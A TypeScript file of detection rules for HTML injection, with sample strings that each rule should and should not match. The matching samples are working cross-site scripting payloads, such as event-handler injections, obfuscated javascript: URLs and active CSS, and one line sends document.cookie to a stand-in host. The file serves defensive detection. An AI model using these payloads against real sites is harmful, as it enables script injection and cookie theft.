import type { SignEntry } from '../sign-entry.ts';

export const htmlSigns = {
  'html-script': {
    means: 'a script element with code or the address of code',
    severity: 'critical',
    paranoia: 1,
    samples: {
      matching: [
        '<script>track(document.cookie)</script>',
        'Lamp <ScRiPt src=//cdn.test/x.js>',
        '<svg><script href="data:text/javascript,run()"/>',
        '<m:script xmlns:m="http://www.w3.org/1999/xhtml">run(1)</m:script>',
      ],
      other: ['transcript of <the script>', '<scripture>John 3:16</scripture>', 'a < script > b'],
    },
  },
  'html-event-handler': {
    means: 'an element with an event handler',
    severity: 'critical',
    paranoia: 1,
    samples: {
      matching: [
        '<img src=x onerror=alert(1)>',
        '<svg/onload=eval(name)>',
        '<unknown onpointerrawupdate="fetch(\'//h.test/\'+document.cookie)">',
        'x" onmouseover="prompt(1)" y="',
      ],
      other: ['<b one=1 only="yes">', 'turn on = true', '<p class="on">on</p>'],
    },
  },
  'html-script-url': {
    means: 'an address in markup that is code or a document of its own',
    severity: 'critical',
    paranoia: 1,
    samples: {
      matching: [
        '<a href="java&#9;script:alert(1)">x</a>',
        '<iframe src="data:text/html,<h1>Log in</h1>">',
        '[click](javascript:alert(document.domain))',
        '<form><button formaction=javascript:run()>',
      ],
      other: [
        '<a href="javascript:;">Menu</a>',
        '<img src="data:image/png;base64,iVBORw0KGgo=">',
        '<a href="https://example.com/javascript:alert">x</a>',
      ],
    },
  },
  'html-attribute-breakout': {
    means:
      'a quote or angle bracket that ends an attribute or tag of the page, with active markup behind it',
    severity: 'critical',
    paranoia: 1,
    samples: {
      matching: [
        '"><script>alert(1)</script>',
        "' onfocus=alert(1) autofocus='",
        'x/><svg onload=run()>',
      ],
      other: ['"><b>', '5" x 7" prints', '<a title="x" onclick="menu()">Menu</a>'],
    },
  },
  'html-element-breakout': {
    means:
      'the end of a comment, script, style or text element of the page, with active markup behind it',
    severity: 'critical',
    paranoia: 1,
    samples: {
      matching: [
        '</title><script>alert(1)</script>',
        '--><img src=x onerror=alert(1)>',
        "</textarea><svg onload='eval(name)'>",
      ],
      other: ['</title>', '<title>x</title><script>alert(1)</script>', 'a --> b'],
    },
  },
  'html-embedded-content': {
    means: 'an element that shows other content in the page',
    severity: 'error',
    paranoia: 1,
    samples: {
      matching: [
        '<iframe src=//other.test>',
        '<embed code=https://other.test/x.swf>',
        '<object data="https://other.test/form.html"></object>',
      ],
      other: ['<img src="https://img.test/a.png">', 'an iframe with src=//other.test', '<iframe>'],
    },
  },
  'html-page-control': {
    means: 'an element that changes addresses, encoding, style or target of the page',
    severity: 'error',
    paranoia: 1,
    samples: {
      matching: [
        '<base href=//other.test/>',
        '<meta http-equiv=refresh content="0;url=//other.test">',
        '<meta charset=utf-7>',
        '<form action=https://other.test/login>',
        '<link rel=stylesheet href=//other.test/x.css>',
      ],
      other: ['<meta name="author" content="Ann">', '<form action="/search">', 'base href'],
    },
  },
  'html-active-style': {
    means: 'a style that runs code',
    severity: 'critical',
    paranoia: 1,
    samples: {
      matching: [
        '<p style="width: exp/**/ression(alert(1))">',
        '<style>@import "java\\script:alert(1)"</style>',
        '<b style=behavior:url(x.htc)>',
        '<style>li{-moz-binding:url(//h.test/x.xml#x)}</style>',
      ],
      other: [
        '<p style="color: red">',
        '<style>p{background:url(/a.png)}</style>',
        'an expression(x)',
      ],
    },
  },
  'html-animated-attribute': {
    means:
      'an animation that sets an event handler, an address of code or markup of another element',
    severity: 'critical',
    paranoia: 1,
    samples: {
      matching: [
        '<set attributeName=onclick to=alert(1)>',
        '<animate attributeName="href" values="/;javascript:alert(1)">',
      ],
      other: [
        '<animate attributeName="r" from="1" to="9"/>',
        '<set attributeName="fill" to="red"/>',
      ],
    },
  },
  'html-hidden-markup': {
    means:
      'active markup in a comment, an attribute value or a text element, which only some parsers see',
    severity: 'error',
    paranoia: 1,
    samples: {
      matching: [
        '<p title="</noscript><img src=x onerror=alert(1)>">',
        '<!--[if IE]><script>alert(1)</script><![endif]-->',
        '<noembed><svg onload=alert(1)></noembed>',
      ],
      other: ['<!-- wp:paragraph --><p>x</p>', '<p title="<b>">', '<textarea><b></textarea>'],
    },
  },
  'html-disguise': {
    means:
      'active markup whose names are disguised by control characters, slashes or character references',
    severity: 'warning',
    paranoia: 2,
    samples: {
      matching: [
        '<svg/onload=alert(1)>',
        '<a href="&#106;avascript:alert(1)">x</a>',
        '<img src=x onerror=&#97;lert(1)>',
      ],
      other: ['<br/>', '<img src="x" onerror="alert(1)">', '<p title="&#8211;">'],
    },
  },
  'html-data-binding': {
    means: 'an element bound to data, events or behaviours, as old browsers know them',
    severity: 'warning',
    paranoia: 2,
    samples: {
      matching: [
        '<span datasrc=#feed datafld=x dataformatas=html></span>',
        '<xml id=feed src="feed.xml"></xml>',
        '<?import namespace=x implementation="x.htc">',
      ],
      other: ['<?xml version="1.0"?>', '<span data-src="a.png">', '<xml>'],
    },
  },
} as const satisfies Record<string, SignEntry>;
